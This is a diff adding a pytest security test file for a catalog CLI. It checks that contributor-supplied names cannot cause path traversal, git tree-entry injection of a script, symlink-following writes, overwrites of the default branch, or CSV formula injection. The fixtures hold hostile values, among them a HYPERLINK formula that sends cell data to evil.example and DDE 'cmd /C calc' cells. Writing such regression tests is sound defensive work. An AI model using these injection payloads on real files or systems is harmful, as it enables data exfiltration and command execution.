@@ -1,0 +1,175 @@
+"""Contributor strings are data: a name never becomes a path outside the catalog, a tree entry of its
+choosing, a script in the published site, a terminal escape or a spreadsheet formula; and publishing
+never touches the exchange's own branches."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from exchange_cli.cli import cli
+from exchange_cli.specs import SpecKind
+from exchange_cli.storage.bucket import open_bucket
+from tests.catalog_world import CatalogWorld
+from tests.infra.chromium import chromium_dom
+from tests.infra.gitrepo import ExchangeRepo, example_boutique, example_gear, init_repo, run_git
+
+PAYLOAD = 'document.title = "pwned by a contributor";\n'
+
+
+@pytest.fixture
+def world(exchange_repo: ExchangeRepo, tmp_path: Path) -> CatalogWorld:
+    (tmp_path / "bucket").mkdir()
+    (tmp_path / "work").mkdir()
+    world = CatalogWorld(exchange_repo, open_bucket((tmp_path / "bucket").as_uri()), tmp_path / "work")
+    world.publish("acme", "hello", "1.0.0")
+    world.spec("acme", "hello", "1.0.0")
+    exchange_repo.commit("a gear")
+    return world
+
+
+def run(world: CatalogWorld, *args: str) -> Result:
+    return CliRunner().invoke(cli, [*args, "--repo", str(world.repo.root)])
+
+
+def hostile_boutique(world: CatalogWorld, stem: str, name: str) -> None:
+    """A boutique stored under a safe file name whose free-text name is the attack (Boutiques allows any
+    string there), merged by a maintainer who read the diff as one odd line."""
+    image = "registry.example.org/acme/tool:1.0.0"
+    world.repo.write(f"boutiques/acme/{stem}.json", example_boutique(
+        name=name, **{"tool-version": "1.0.0", "container-image": {"type": "docker", "image": image}}))
+    world.repo.commit(f"add {stem}")
+
+
+def files_below(directory: Path) -> set[str]:
+    return {path.relative_to(directory).as_posix() for path in directory.rglob("*") if path.is_file()}
+
+
+def test_a_boutique_name_cannot_write_outside_the_site_or_over_its_index(world: CatalogWorld, tmp_path: Path) -> None:
+    """Attack 1: `../../../../X` wrote X.html outside SITE; `../../index` replaced the site's index page."""
+    hostile_boutique(world, "escape", "../../../../X")
+    hostile_boutique(world, "overwrite", "../../index")
+    site = tmp_path / "out" / "site"
+    before = files_below(tmp_path)
+    result = run(world, "index", "-o", str(tmp_path / "exchange.json"), "--html", str(site))
+    assert result.exit_code == 0, result.output
+    written = {path for path in files_below(tmp_path) - before}
+    assert all(path.startswith("out/site/") or path == "exchange.json" for path in written), written
+    assert not list(tmp_path.rglob("X.html"))
+    index = (site / "index.html").read_text()
+    assert '<ul id="entries">' in index and index.count('class="entry"') == 3, "the site's own index page"
+    pages = sorted(p for p in files_below(site) if p.startswith("boutiques/"))
+    assert len(pages) == 2 and all(re.fullmatch(r"boutiques/acme/[a-z0-9.-]+-[0-9a-f]{10}\.html", p) for p in pages)
+    for page in pages:  # each page is linked from the index under its real path
+        assert f'href="{page}"' in index
+
+
+def test_a_catalog_file_never_follows_a_link_planted_in_the_output(world: CatalogWorld, tmp_path: Path) -> None:
+    site, elsewhere = tmp_path / "site", tmp_path / "elsewhere"
+    (site / "gears").mkdir(parents=True)
+    elsewhere.mkdir()
+    (site / "gears" / "acme").symlink_to(elsewhere)
+    result = run(world, "index", "-o", str(tmp_path / "x.json"), "--html", str(site))
+    assert result.exit_code == 2, result.output
+    assert "symbolic link" in result.output and list(elsewhere.iterdir()) == []
+    assert not (site / "index.html").exists(), "nothing is written unless every path is safe"
+
+
+def test_a_name_cannot_add_tree_entries_to_the_published_catalog(world: CatalogWorld, tmp_path: Path) -> None:
+    """Attack 2: a name holding a newline and a tab went into `update-index --index-info` as is: it added
+    tree entries of its choosing, and the published assets/catalog.js became the contributor's script."""
+    (world.repo.root / "docs").mkdir()
+    (world.repo.root / "docs" / "theme.js").write_text(PAYLOAD)
+    payload = world.repo.git("hash-object", "-w", "docs/theme.js")
+    hostile_boutique(world, "tool", f"tool\n100644 {payload}\tassets/catalog.js\n100644 {payload}\tz")
+    remote = init_repo(tmp_path / "remote.git", bare=True)
+    world.repo.git("remote", "add", "origin", str(remote))
+    world.repo.git("push", "-q", "origin", "master")
+    site = tmp_path / "site"
+    result = run(world, "index", "-o", str(tmp_path / "x.json"), "--html", str(site), "--publish-branch", "gh-pages")
+    assert result.exit_code == 0, result.output
+
+    published = set(run_git(remote, "ls-tree", "-r", "-z", "--name-only", "gh-pages").split("\0")) - {""}
+    assert published == files_below(site), "the tree holds exactly the files the catalog wrote"
+    script = run_git(remote, "show", "gh-pages:assets/catalog.js")
+    assert "pwned" not in script and script == (site / "assets" / "catalog.js").read_text().strip()
+
+    checkout = tmp_path / "published"
+    run_git(tmp_path, "clone", "-q", "--branch", "gh-pages", str(remote), str(checkout))
+    doms = {page: chromium_dom((checkout / page).as_uri(), tmp_path / "profile")
+            for page in ["index.html", *(p for p in published if p.startswith("boutiques/"))]}
+    for page, dom in doms.items():
+        title = re.search(r"<title>(.*?)</title>", dom, re.DOTALL)[1]
+        assert "pwned" not in title, (page, title)
+    assert "2 of 2 shown" in doms["index.html"], "the catalog's own script ran"
+
+
+@pytest.fixture
+def pushed(world: CatalogWorld, tmp_path: Path) -> Path:
+    remote = init_repo(tmp_path / "remote.git", bare=True)
+    world.repo.git("remote", "add", "origin", str(remote))
+    world.repo.git("push", "-q", "origin", "master")
+    return remote
+
+
+def test_publishing_never_replaces_the_exchange_branch_from_a_detached_head(world: CatalogWorld, pushed: Path,
+                                                                           tmp_path: Path) -> None:
+    """Attack 8: on a detached HEAD the guard compared branch names only; master's whole tree was replaced
+    by the site and pushed."""
+    tip = run_git(pushed, "rev-parse", "master")
+    world.repo.git("checkout", "-q", "--detach")
+    for args in (["index", "--html", str(tmp_path / "site"), "--publish-branch", "master"],
+                 ["index", "--format", "legacy", "-o", str(tmp_path / "x.json"), "--publish-branch", "master"]):
+        result = run(world, *args)
+        assert result.exit_code == 2, result.output
+        assert "master" in result.output and "default branch" in result.output
+    assert run_git(pushed, "rev-parse", "master") == tip
+
+
+def test_publishing_refuses_any_branch_holding_the_exchange(world: CatalogWorld, pushed: Path, tmp_path: Path) -> None:
+    """A branch other than the default one that holds gears, manifests or a sentinel (a release branch,
+    a fork's master), or that shares history with the checked-out commit."""
+    world.repo.git("push", "-q", "origin", "master:release")
+    world.repo.git("checkout", "-q", "--detach")
+    result = run(world, "index", "--html", str(tmp_path / "site"), "--publish-branch", "release")
+    assert result.exit_code == 2, result.output
+    assert "release" in result.output and "history of the checked-out commit" in result.output
+
+    orphan = tmp_path / "orphan"
+    run_git(tmp_path, "clone", "-q", str(pushed), str(orphan))
+    run_git(orphan, "checkout", "-q", "--orphan", "mirror")
+    run_git(orphan, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "-m", "a copy of the specs")
+    run_git(orphan, "push", "-q", "origin", "mirror")
+    result = run(world, "index", "--html", str(tmp_path / "site"), "--publish-branch", "mirror")
+    assert result.exit_code == 2, result.output
+    assert "holds" in result.output and "gears/…/*.json" in result.output
+    assert run_git(pushed, "ls-tree", "--name-only", "mirror").split() == ["gears", "manifests"]
+
+
+def test_process_refuses_to_publish_its_index_to_the_default_branch(world: CatalogWorld, pushed: Path,
+                                                                    tmp_path: Path) -> None:
+    world.repo.git("checkout", "-q", "-b", "work")  # not the checked-out branch: the remote's default one
+    result = CliRunner().invoke(cli, ["process", "--repo", str(world.repo.root), "--bucket",
+                                      (tmp_path / "bucket").as_uri(), "--publish-index", "master", "--dry-run"])
+    assert result.exit_code == 2, result.output
+    assert "--publish-index master is the default branch of origin" in result.output
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(world: CatalogWorld, tmp_path: Path) -> None:
+    """Attack 10, the spreadsheet half: a label `=HYPERLINK(...)` went into `inventory --format csv` as is."""
+    hostile = {"label": '=HYPERLINK("http://evil.example/?"&A1,"click")', "author": "+1+cmd|' /C calc'!A0",
+               "maintainer": "@SUM(1+1)*cmd|' /C calc'!A0", "license": "-2+3", "source": "\tx", "url": "\rx"}
+    world.repo.write("gears/acme/sheet.json", example_gear(name="sheet", **hostile))
+    world.repo.commit("a gear with formulas")
+    result = run(world, "inventory", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    (row,) = [row for row in csv.DictReader(io.StringIO(result.stdout)) if row["name"] == "sheet"]
+    for column, value in hostile.items():
+        assert row[column] == "'" + value, (column, row[column])
+    (plain,) = [row for row in csv.DictReader(io.StringIO(result.stdout)) if row["name"] == "hello"]
+    assert plain["label"] == "Hello gear", "ordinary cells are left as they are"
